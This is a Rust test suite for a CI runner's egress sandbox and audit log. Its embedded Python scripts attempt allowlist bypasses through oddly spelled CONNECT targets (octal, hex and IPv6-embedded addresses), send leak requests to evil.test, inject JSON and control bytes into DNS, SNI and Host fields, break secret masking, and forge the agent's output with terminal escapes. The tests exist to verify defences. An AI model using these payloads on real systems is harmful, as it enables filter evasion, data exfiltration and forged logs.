//! Attacks on what the operator reads: the audit log's lines, the run's output, and the
//! agent's own handling of a job's odd bytes, CONNECT spellings, pipelined floods, huge
//! environments and thousands of steps. From inside real sandboxes as root, through the
//! product's contracts only (job file, host config, CLI, audit log). Each checks that
//! nothing reached a target and that every attempt left a well-formed event.

use std::process::Output;

use runner_agent_tests::agent::{describe, python_step, random_value, World};
use runner_agent_tests::netbed::{allowed_test_config, settle, NetBed, TRAP_IPS, WEB_IP};
use runner_agent_tests::require_privilege;

const PRELUDE: &str = r#"
def show(label, out):
    print("ATTEMPT", label, "->", repr(out[:90]), flush=True)
"#;

/// [`python_step`] with this file's [`PRELUDE`].
fn py_step(name: &str, script: &str, args: &str) -> String {
    python_step(name, PRELUDE, script, args)
}

/// Runs the job `yaml` with an audit log; returns the output and the raw log lines
/// (not parsed: a line that is not JSON is itself a finding here).
fn run_raw(world: &World, name: &str, yaml: &str) -> (Output, Vec<String>) {
    let job = world.job(&format!("{name}.yaml"), yaml);
    let (output, path) = world.run_audited_to(&job);
    settle();
    let text = std::fs::read(&path).unwrap_or_default();
    let text = String::from_utf8(text).expect("audit log is UTF-8");
    (output, text.lines().map(str::to_owned).collect())
}

/// Parses `lines`; returns the events and the lines that are not one JSON object.
fn parse_lines(lines: &[String]) -> (Vec<serde_json::Value>, Vec<String>) {
    let mut events = Vec::new();
    let mut bad = Vec::new();
    for line in lines {
        match serde_json::from_str::<serde_json::Value>(line) {
            Ok(v) if v.is_object() => events.push(v),
            _ => bad.push(line.clone()),
        }
    }
    (events, bad)
}

fn print_all(output: &Output, lines: &[String]) {
    println!("{}", describe(output));
    for l in lines {
        println!("LINE {l}");
    }
}

/// What reached a trap, the upstream DNS server (a non-allowed name) or a web server
/// (a `/leak-` path, or another tenant).
fn what_got_through(bed: &NetBed) -> Vec<String> {
    let mut problems = Vec::new();
    if !bed.trap_hits().is_empty() {
        problems.push(format!("trap hits: {:?}", bed.trap_hits()));
    }
    for h in bed.dns_hits() {
        if !h.name.trim_end_matches('.').ends_with("allowed.test") {
            problems.push(format!("upstream saw: {h:?}"));
        }
    }
    for h in bed.web_hits() {
        let tenant = h
            .host
            .as_deref()
            .is_some_and(|x| !x.starts_with("allowed.test"))
            || h.sni.as_deref().is_some_and(|x| x != "allowed.test");
        if h.path.contains("leak") || tenant {
            problems.push(format!("web: {h:?}"));
        }
    }
    problems
}

/// Runs `script` as the one step of a job `name` in `world` (with the first trap's
/// address as its argument), prints everything, and checks that nothing got through
/// `bed`, that the job left nothing and that every line of its audit log is one JSON
/// object. Returns the job's output, the log's lines and its events.
fn run_attack(
    bed: &NetBed,
    world: &World,
    name: &str,
    script: &str,
) -> (Output, Vec<String>, Vec<serde_json::Value>) {
    let yaml = format!(
        "name: {name}\nsteps:\n{}",
        py_step(name, script, &TRAP_IPS[0].to_string())
    );
    let (output, lines) = run_raw(world, name, &yaml);
    print_all(&output, &lines);
    let (events, bad) = parse_lines(&lines);
    let through = what_got_through(bed);
    assert!(through.is_empty(), "{through:?}");
    world.assert_job_left_nothing(&output);
    assert!(
        bad.is_empty(),
        "{} audit lines are not JSON (of {}): {bad:#?}",
        bad.len(),
        events.len() + bad.len()
    );
    (output, lines, events)
}

fn bed_and_world(extra_env: &str) -> (NetBed, World) {
    let bed = NetBed::new().expect("net bed");
    let world = World::in_netns(bed.host_ns(), "", &allowed_test_config("", extra_env));
    (bed, world)
}

// ------------------------------------------------------------ 1. masking vs JSON escapes

const ESCAPE_MASK: &str = r#"
tok = os.environ["TOKEN"]
tail = tok[1:]
W = ("198.51.100.10", 80)
C = "Connection: close\r\n"
# The masker works on the serialised line: a tab serialises as `\t`, so a Host header
# "a<TAB>" + TOKEN[1:] puts `\` + TOKEN into the line when TOKEN starts with "t".
show("explicit-tab", raw(E, ("GET http://allowed.test/ok-mask1 HTTP/1.1\r\nHost: a\t%s\r\n%s\r\n" % (tail, C)).encode()))
show("transparent-tab", raw(W, ("GET /ok-mask2 HTTP/1.1\r\nHost: a\t%s\r\n%s\r\n" % (tail, C)).encode()))
# An upper-case first letter, through the masked lower-case form.
show("explicit-tab-upper", raw(E, ("GET http://allowed.test/ok-mask3 HTTP/1.1\r\nHost: A\t%s\r\n%s\r\n" % (tail.lower(), C)).encode()))
# A value starting with "n": a newline in a CONNECT tunnel's SNI (the reason quotes it).
npm = os.environ["NPM_TOKEN"]
show("connect-sni-nl", raw(E, [b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n", client_hello([b"x\n" + npm[1:].encode()])], pause=0.2))
# comm: every fence denial of this process carries it.
setcomm("\t" + tail[:14])
udp("comm-tab", b"x", (sys.argv[1], 9999))
print("MASK-DONE", flush=True)
"#;

/// A `deliver: env` secret whose value starts with a letter that is also a JSON escape
/// (`t`, as in `tok-...`): the job puts a tab right before the rest of the value into a
/// field of an event; the line holds `\t` + rest = `\` + value, the masker replaces the
/// value with `***`, leaving `\***`, which is not JSON.
#[test]
fn masking_a_secret_after_a_json_escape_keeps_the_line_json() {
    require_privilege!();
    let (bed, world) = bed_and_world(
        "    secrets:\n      TOKEN: { deliver: env }\n      NPM_TOKEN: { deliver: env }\n",
    );
    let value = random_value("tok");
    world.set_secret("default", "TOKEN", &value);
    let npm = random_value("npm");
    world.set_secret("default", "NPM_TOKEN", &npm);
    let (_, lines, _) = run_attack(&bed, &world, "escmask", ESCAPE_MASK);
    assert!(
        !lines.iter().any(|l| l.contains(&value) || l.contains(&npm)),
        "the secret is in the log"
    );
}

// ------------------------------------------------- 2. step output posing as the agent's

/// A step prints lines shaped like the agent's own (a trailer saying it succeeded, the
/// next step's header, a whole end-of-job summary with the job id and runner it reads
/// from its environment), sets black on black, moves the cursor up, ends its output in
/// an unterminated terminal title sequence without a newline, and fails. Only the job's
/// colours reach the agent's stdout as escapes (the rest is shown), the colour is reset
/// before the agent writes, the real trailer is a line of its own saying the step failed,
/// and the real trailer and summary come last (a job can print text; it cannot rewrite
/// or hide the agent's).
#[test]
fn step_output_cannot_hide_or_rewrite_the_agents_own_lines() {
    require_privilege!();
    let world = World::new("", "");
    let job = world.job(
        "forge.yaml",
        "name: forge\nsteps:\n  - name: build\n    run: |\n      printf '\\n<== [1/2] build: ok (0.1s)\\n==> [2/2] deploy\\nDeployed.\\n<== [2/2] deploy: ok (0.2s)\\n\\nJob forge (%s) on %s: succeeded in 0.3s\\n  ok                           build (0.1s)\\n  ok                           deploy (0.2s)\\nEgress summary: no connection or lookup was attempted.\\n\\033[32mgreen\\033[30;40m\\033[2A\\033]0;' \"$RUNNER_JOB_ID\" \"$RUNNER_NAME\"\n      exit 1\n",
    );
    let output = world.run(&job);
    println!("{}", describe(&output));
    println!("raw stdout: {:?}", String::from_utf8_lossy(&output.stdout));
    world.assert_job_left_nothing(&output);
    assert_eq!(output.status.code(), Some(1));
    let stdout = String::from_utf8_lossy(&output.stdout);
    // Colours pass; every other sequence is shown, not obeyed; the black-on-black the job
    // left set is reset before the agent's trailer.
    assert_eq!(
        escape_sequences(&stdout),
        ["\x1b[32m", "\x1b[30;40m", "\x1b[0m"],
        "escape sequences other than colours reach the agent's stdout: {stdout:?}"
    );
    assert!(
        stdout.contains("\x1b[30;40m^[[2A^[]0;\x1b[0m\n<== [1/1] build: failed"),
        "the job's escapes are not shown, or its colour is not reset: {stdout:?}"
    );
    let trailers: Vec<&str> = stdout.lines().filter(|l| l.starts_with("<== ")).collect();
    let summaries: Vec<&str> = stdout
        .lines()
        .filter(|l| l.starts_with("Job forge ("))
        .collect();
    println!("trailers: {trailers:?}\nsummaries: {summaries:?}");
    let last_trailer = trailers.last().expect("a trailer");
    assert!(
        last_trailer.starts_with("<== [1/1] build: failed"),
        "the real trailer is not the last line starting `<== `: {trailers:?}"
    );
    let last_summary = summaries.last().expect("a summary");
    assert!(
        last_summary.contains(": failed"),
        "the real summary is not the last: {summaries:?}"
    );
    let at = |needle: &str| stdout.rfind(needle).expect(needle);
    assert!(at(last_trailer) < at(last_summary));
}

/// Every escape sequence in `text`: from ESC to the end of its SGR parameters and `m`, or
/// the ESC alone when no SGR follows.
fn escape_sequences(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = text;
    while let Some(at) = rest.find('\x1b') {
        let tail = &rest[at..];
        let params = tail[1..].strip_prefix('[').map(|p| {
            p.len()
                - p.trim_start_matches(|c: char| c.is_ascii_digit() || c == ';')
                    .len()
        });
        let len = match params {
            Some(n) if tail[2 + n..].starts_with('m') => 3 + n,
            _ => 1,
        };
        found.push(tail[..len].to_owned());
        rest = &tail[len..];
    }
    found
}

// ----------------------------------- 3. odd bytes in every field a job chooses, summary

const ODD_FIELDS: &str = r#"
TRAP = sys.argv[1]
W = ("198.51.100.10", 80)
W443 = ("198.51.100.10", 443)
C = "Connection: close\r\n"
D = (TRAP, 53)
# comm with control characters, quotes, backslashes and bytes that are not UTF-8
setcomm(b"c1\n\"\\\x1b[2J\xff")
udp("ebpf-odd-comm", b"x", (TRAP, 9999))
setcomm(b"c2\r{\"verdict\"")
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(1)
try:
    s.connect((TRAP, 5432))
    s.sendall(b"GET /leak-c2 HTTP/1.1\r\nHost: evil.test\r\n\r\n")
    s.recv(100)
except OSError as e:
    pass
s.close()
setcomm("odd3")
# DNS names with control bytes, quotes, NUL, high bytes, a label holding a dot
udp("dns-nl", q([b"nl\n\"verdict\":\"allow", b"evil", b"test"]), D)
udp("dns-nul", q([b"nul\x00x", b"evil", b"test"]), D)
udp("dns-high", q([b"hi\xff\xfe", b"evil", b"test"]), D)
udp("dns-esc", q([b"esc\x1b[31m", b"evil", b"test"]), D)
udp("dns-bs", q([b"bs\\", b"evil", b"test"]), D)
udp("dns-long", q([b"l" * 63, b"m" * 63, b"n" * 63, b"o" * 57, b"test"]), D)
setcomm("odd4")
# SNI with odd bytes, transparent and through CONNECT
show("sni-nl", raw(W443, client_hello([b"allowed.test\n\"x\""])))
show("sni-high", raw(W443, client_hello([b"\xff\xfeallowed.test"])))
show("sni-long", raw(W443, client_hello([b"a" * 3000 + b".allowed.test"])))
show("sni-ctl-connect", raw(E, [b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n", client_hello([b"allowed.test\r\n\x00"])], pause=0.2))
setcomm("odd5")
# Host headers and request targets with odd bytes
show("host-high", raw(W, b"GET /leak-h1 HTTP/1.1\r\nHost: \xff\xfeevil.test\r\n" + C.encode() + b"\r\n"))
show("host-tab-quote", raw(W, b"GET /leak-h2 HTTP/1.1\r\nHost: evil\t\"x\\.test\r\n" + C.encode() + b"\r\n"))
show("host-long", raw(W, b"GET /leak-h3 HTTP/1.1\r\nHost: " + b"h" * 6000 + b".evil.test\r\n" + C.encode() + b"\r\n"))
show("target-high", raw(E, b"GET http://evil.test/leak-\xff\xfe HTTP/1.1\r\n" + C.encode() + b"\r\n"))
show("target-quote", raw(E, b"GET http://evil.test/leak-\"q\\ HTTP/1.1\r\n" + C.encode() + b"\r\n"))
show("target-long", raw(E, b"GET http://evil.test/leak-" + b"p" * 7000 + b" HTTP/1.1\r\n" + C.encode() + b"\r\n"))
show("connect-odd", raw(E, b"CONNECT ev\"il.test\\:443 HTTP/1.1\r\n\r\n"))
show("connect-high", raw(E, b"CONNECT \xffevil.test:443 HTTP/1.1\r\n\r\n"))
show("method-odd", raw(E, b"G\"ET http://evil.test/leak-m1 HTTP/1.1\r\n" + C.encode() + b"\r\n"))
# a few allowed ones, so that the summary has both columns
show("ok-1", raw(E, ("GET http://allowed.test/ok-1 HTTP/1.1\r\n" + C + "\r\n").encode()))
show("ok-2", raw(W, ("GET /ok-2 HTTP/1.1\r\nHost: allowed.test\r\n" + C + "\r\n").encode()))
print("ODD-DONE", flush=True)
"#;

/// Every field a job chooses (comm, DNS names, SNI, Host, request target, method,
/// CONNECT authority) filled with control characters, quotes, backslashes, bytes that are
/// not UTF-8 and very long values: every line of the log is one JSON object, every
/// attempt has its event, the processes are named, and the egress summary's totals equal
/// the log's.
#[test]
fn odd_bytes_in_job_chosen_fields_keep_one_event_per_line_and_the_summary_right() {
    require_privilege!();
    let (bed, world) = bed_and_world("");
    let (output, _, events) = run_attack(&bed, &world, "oddfields", ODD_FIELDS);
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    // The fence's denials name the process as it named itself.
    let comms: Vec<String> = events
        .iter()
        .filter_map(|e| e["comm"].as_str().map(str::to_owned))
        .collect();
    println!("comms: {comms:?}");
    assert!(
        events.iter().any(|e| e["source"] == "ebpf"
            && e["port"] == 9999
            && e["comm"]
                .as_str()
                .is_some_and(|c| c.starts_with("c1\n\"\\"))),
        "no fence denial naming comm c1"
    );
    assert!(
        events.iter().any(|e| e["port"] == 5432
            && e["verdict"] == "deny"
            && e["comm"].as_str().is_some_and(|c| c.starts_with("c2\r"))),
        "no denial naming comm c2"
    );
    // Each DNS attempt has an event of the process odd3.
    let dns_odd3 = events
        .iter()
        .filter(|e| e["source"] == "dns" && e["comm"] == "odd3" && e["verdict"] == "deny")
        .count();
    assert!(
        dns_odd3 >= 6,
        "{dns_odd3} DNS deny events of odd3, 6 attempts"
    );
    let odd4 = events
        .iter()
        .filter(|e| e["comm"] == "odd4" && e["verdict"] == "deny")
        .count();
    assert!(odd4 >= 4, "{odd4} deny events of odd4, 4 attempts");
    let odd5 = events
        .iter()
        .filter(|e| e["source"] == "proxy" && e["verdict"] == "deny")
        .count();
    assert!(odd5 >= 9, "{odd5} proxy deny events, 9+ odd5 attempts");
    // Summary totals equal the log's.
    let (mut allowed, mut denied) = (0u64, 0u64);
    let mut in_summary = false;
    for line in stdout.lines() {
        if line.starts_with("Egress summary:") {
            in_summary = true;
            continue;
        }
        if in_summary {
            if !line.starts_with("  ") {
                break;
            }
            let cols: Vec<&str> = line.split_whitespace().collect();
            if cols.len() >= 3 && cols[0] != "host" {
                let n = cols.len();
                allowed += cols[n - 2].parse::<u64>().unwrap_or(0);
                denied += cols[n - 1].parse::<u64>().unwrap_or(0);
            }
        }
    }
    let log_allowed = events.iter().filter(|e| e["verdict"] == "allow").count() as u64;
    let log_denied = events.iter().filter(|e| e["verdict"] == "deny").count() as u64;
    println!(
        "summary allowed {allowed} denied {denied}; log allowed {log_allowed} denied {log_denied}"
    );
    assert_eq!(
        (allowed, denied),
        (log_allowed, log_denied),
        "summary and log disagree"
    );
}

// --------------------------------------------------------- 4. CONNECT authority oddities

const CONNECT_ODD: &str = r#"
TRAP = sys.argv[1]
def connect(label, authority, sni=b"allowed.test", then=None):
    hello = client_hello([sni]) if sni is not None else b""
    parts = [("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (authority, authority)).encode("latin1")]
    parts.append(then if then is not None else hello)
    out = raw(E, parts, wait=1.0, pause=0.2)
    show(label, out)
connect("port-0", "allowed.test:0")
connect("port-65536", "allowed.test:65536")
connect("port-wrap-443", "allowed.test:65979")
connect("port-wrap-80", "allowed.test:65616", sni=None, then=b"GET /leak-p1 HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
connect("port-lead-zero", "allowed.test:0443")
connect("port-plus", "allowed.test:+443")
connect("port-neg", "allowed.test:-443")
connect("port-space", "allowed.test: 443")
connect("port-hex", "allowed.test:0x1bb")
connect("port-double", "allowed.test:443:443")
connect("port-empty", "allowed.test:")
connect("octal-trap", "0313.0.0161.012:443")
connect("octal-web", "0306.063.0144.012:443")
connect("decimal-trap", "3405803786:443")
connect("hex-trap", "0xcb00710a:443")
connect("short-trap", "203.0.29194:443")
connect("pct-dot", "allowed%2etest:443")
connect("pct-tenant", "tenant%2Etest:443", sni=b"tenant.test")
connect("idn-allowed", "\u0430llowed.test:443".encode("utf-8").decode("latin1"), sni=b"xn--llowed-3ve.test")
connect("puny-tenant", "xn--tenant-0ya.test:443", sni=b"xn--tenant-0ya.test")
connect("bracket-name", "[allowed.test]:443")
connect("bracket-tenant", "[tenant.test]:443", sni=b"tenant.test")
connect("trailing-dots", "allowed.test..:443", sni=b"allowed.test..")
connect("upper-trailing", "ALLOWED.TEST.:443", sni=b"ALLOWED.TEST.")
connect("path-after", "allowed.test:443/leak-x", sni=b"allowed.test")
connect("query-after", "tenant.test:443?allowed.test:443", sni=b"tenant.test")
connect("hash", "tenant.test:443#allowed.test", sni=b"tenant.test")
connect("userinfo-at", "@tenant.test:443", sni=b"tenant.test")
connect("v6-trap", "[2001:db8:113::10]:443")
connect("v6-v4compat", "[::203.0.113.10]:443")
connect("v6-nat64", "[64:ff9b::cb00:710a]:443")
connect("v6-6to4", "[2002:cb00:710a::1]:443")
connect("v6-teredo", "[2001:0:4136:e378:8000:63bf:34ff:8ef5]:443")
connect("v6-loop", "[::1]:3128")
connect("wildcard-self", "allowed.test:443", sni=b"*.allowed.test")
connect("sub-deep", "deep.api.allowed.test:443", sni=b"deep.api.allowed.test")
connect("http10-nohost", "allowed.test:80", sni=None, then=b"GET /leak-n1 HTTP/1.0\r\n\r\n")
show("absolute-http10-nohost", raw(E, b"GET http://tenant.test/leak-n2 HTTP/1.0\r\n\r\n"))
print("CONNECT-DONE", flush=True)
"#;

/// CONNECT authorities in odd spellings: ports out of range or spelled oddly (one that
/// wraps to 443 or 80 in 16 bits), IPv4 in octal, decimal, hex and short forms, percent
/// escapes, IDN and punycode, bracketed names, trailing dots, path/query/fragment after
/// the port, IPv6 forms that embed IPv4. Nothing reaches a trap or another tenant, each
/// attempt leaves an event, and an allowed tunnel's event names the port actually used.
#[test]
fn connect_authority_oddities_are_denied_or_decided_on_what_is_dialled() {
    require_privilege!();
    let (bed, world) = bed_and_world("");
    let (output, _, events) = run_attack(&bed, &world, "connodd", CONNECT_ODD);
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    println!("web hits: {:#?}", bed.web_hits());
    let attempts = stdout.lines().filter(|l| l.starts_with("ATTEMPT")).count();
    let connect_events = events.iter().filter(|e| e["source"] == "proxy").count();
    assert!(
        connect_events >= attempts,
        "{attempts} attempts, {connect_events} proxy events"
    );
    // A refused authority is quoted in the reason: the event has no host or port.
    for authority in ["allowed.test:0", "allowed.test:65536", "allowed.test:0x1bb"] {
        let quoted = format!("CONNECT target `{authority}` is not host:port");
        assert!(
            events.iter().any(|e| e["reason"] == quoted.as_str()),
            "no event says {quoted:?}"
        );
    }
    // Allowed tunnels name a port that was really dialled.
    for e in events.iter().filter(|e| e["verdict"] == "allow") {
        assert!(
            e["port"] == 443 || e["port"] == 80,
            "allowed event with port {}: {e}",
            e["port"]
        );
    }
    for h in bed.web_hits() {
        assert!(
            h.local.port() == 443 || h.local.port() == 80,
            "a web server was reached on {}",
            h.local
        );
        assert_eq!(h.local.ip(), std::net::IpAddr::V4(WEB_IP));
    }
}

// ------------------------------------------------------ 5. the job's size against the agent

/// Environment values past what execve(2) takes (one of 150 KiB; fifty of 50 KiB)
/// fail their step cleanly; the next step runs and nothing is left.
#[test]
fn env_values_past_execve_limits_fail_the_step_cleanly() {
    require_privilege!();
    let world = World::new("", "");
    let big = "y".repeat(150 * 1024);
    let mut yaml = format!("name: hugeenv\nsteps:\n  - name: one big\n    env:\n      BIG: \"{big}\"\n    run: echo survived-one\n    continue-on-error: true\n  - name: many\n    env:\n");
    // 2.5 MiB of environment (more than ARG_MAX here) from a file under the job file's
    // 256 KiB: one value, named by an anchor 50 times.
    let chunk = "z".repeat(50 * 1024);
    yaml.push_str(&format!("      M0: &m \"{chunk}\"\n"));
    for i in 1..50 {
        yaml.push_str(&format!("      M{i}: *m\n"));
    }
    yaml.push_str("    run: echo survived-many\n    continue-on-error: true\n  - name: after\n    run: echo after-ok\n");
    let job = world.job("hugeenv.yaml", &yaml);
    let output = world.run(&job);
    let so = String::from_utf8_lossy(&output.stdout);
    println!("{}", describe(&output));
    world.assert_job_left_nothing(&output);
    assert!(so.contains("after-ok"), "the last step did not run");
    assert!(
        !so.contains("survived-one") && !so.contains("survived-many"),
        "a step past execve's limits ran: {so}"
    );
    assert_eq!(
        so.lines()
            .filter(|l| l.contains("Argument list too long"))
            .count(),
        2,
        "{so}"
    );
}

/// Many small steps (2,000): the run ends, the summary lists each, nothing is left.
#[test]
fn many_steps_end_cleanly() {
    require_privilege!();
    let world = World::new("", "");
    let mut yaml = String::from("name: many\nsteps:\n");
    for i in 0..2000 {
        yaml.push_str(&format!("  - name: s{i}\n    run: \"true\"\n"));
    }
    let job = world.job("many.yaml", &yaml);
    let output = world.run(&job);
    println!(
        "exit {:?}\n{}",
        output.status.code(),
        String::from_utf8_lossy(&output.stderr)
    );
    world.assert_job_left_nothing(&output);
    assert_eq!(output.status.code(), Some(0));
    let so = String::from_utf8_lossy(&output.stdout);
    assert_eq!(so.lines().filter(|l| l.starts_with("<== ")).count(), 2000);
}

// ------------------------------------------- 6. every pipelined request is one event

const PIPE_FLOOD: &str = r#"
W = ("198.51.100.10", 80)
N = 300
blob = b"".join(("GET http://evil.test/leak-pipe-%d HTTP/1.1\r\nHost: evil.test\r\n\r\n" % i).encode() for i in range(N))
out = raw(E, blob, wait=3)
print("explicit 403s:", out.count(b" 403 "), flush=True)
blob = b"".join(("GET /leak-tpipe-%d HTTP/1.1\r\nHost: tenant.test\r\n\r\n" % i).encode() for i in range(N))
out = raw(W, blob, wait=3)
print("transparent 403s:", out.count(b" 403 "), flush=True)
"#;

/// Hundreds of denied requests pipelined in one write, on the explicit and the
/// transparent listener: each gets its own deny event naming its path (or the connection
/// is closed and the rest are never read, which the client sees).
#[test]
fn every_pipelined_denied_request_is_its_own_event() {
    require_privilege!();
    let (bed, world) = bed_and_world("");
    let (output, _, events) = run_attack(&bed, &world, "pipeflood", PIPE_FLOOD);
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let answered = |prefix: &str| -> usize {
        stdout
            .lines()
            .find_map(|l| l.strip_prefix(prefix))
            .and_then(|n| n.trim().parse().ok())
            .unwrap_or(0)
    };
    let explicit = events
        .iter()
        .filter(|e| {
            e["verdict"] == "deny"
                && e["path"]
                    .as_str()
                    .is_some_and(|p| p.starts_with("/leak-pipe-"))
        })
        .count();
    let transparent = events
        .iter()
        .filter(|e| {
            e["verdict"] == "deny"
                && e["path"]
                    .as_str()
                    .is_some_and(|p| p.starts_with("/leak-tpipe-"))
        })
        .count();
    println!(
        "explicit: {} answered, {explicit} events; transparent: {} answered, {transparent} events",
        answered("explicit 403s:"),
        answered("transparent 403s:")
    );
    assert!(explicit >= answered("explicit 403s:") && explicit > 0);
    assert!(transparent >= answered("transparent 403s:") && transparent > 0);
}
